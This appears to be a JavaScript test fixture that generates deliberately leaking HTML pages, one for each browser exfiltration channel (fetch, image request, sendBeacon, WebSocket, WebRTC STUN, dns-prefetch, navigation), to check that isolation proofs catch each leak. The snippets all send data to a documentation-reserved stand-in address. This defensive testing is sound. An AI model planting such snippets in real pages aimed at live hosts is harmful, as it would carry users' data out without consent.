// Pages that leak on purpose, one for each way out of a page: every proof must be seen to catch what it claims to catch.

/** An address nobody has, set aside for documentation. */
export const ELSEWHERE = "198.51.100.7";
/** A name nobody has. */
export const NAME = "leak.example";

/** What a page does to get something out: a script, or an element. */
export const LEAKS = {
  fetch: { script: `fetch("http://${ELSEWHERE}/?score", { mode: "no-cors" }).catch(() => {});` },
  image: { script: `new Image().src = "http://${ELSEWHERE}/?score";` },
  beacon: { script: `navigator.sendBeacon("http://${ELSEWHERE}/", "score");` },
  websocket: { script: `new WebSocket("ws://${ELSEWHERE}/");` },
  webrtc: {
    script: `const way = new RTCPeerConnection({ iceServers: [{ urls: "stun:${ELSEWHERE}:3478" }] });
      way.createDataChannel("score");
      way.createOffer().then((offer) => way.setLocalDescription(offer));`,
  },
  "dns-prefetch": { element: `<link rel="dns-prefetch" href="http://${NAME}/">` },
  navigation: { script: `location.assign("http://${ELSEWHERE}/?score");` },
};

/** The files of the leaking pages by their names, with these headers. */
export function leakingPages(folder, headers) {
  const html = (name, { element = "", script }) =>
    `<!doctype html><html lang="en"><meta charset="utf-8"><title>${name}</title>${element}<p>A page that leaks.</p>${script ? `<script src="${name}.js"></script>` : ""}`;
  return Object.fromEntries(
    Object.entries(LEAKS).flatMap(([name, leak]) => [
      [`${folder}/${name}.html`, { headers, text: html(name, leak) }],
      ...(leak.script ? [[`${folder}/${name}.js`, { headers, text: leak.script }]] : []),
    ]),
  );
}
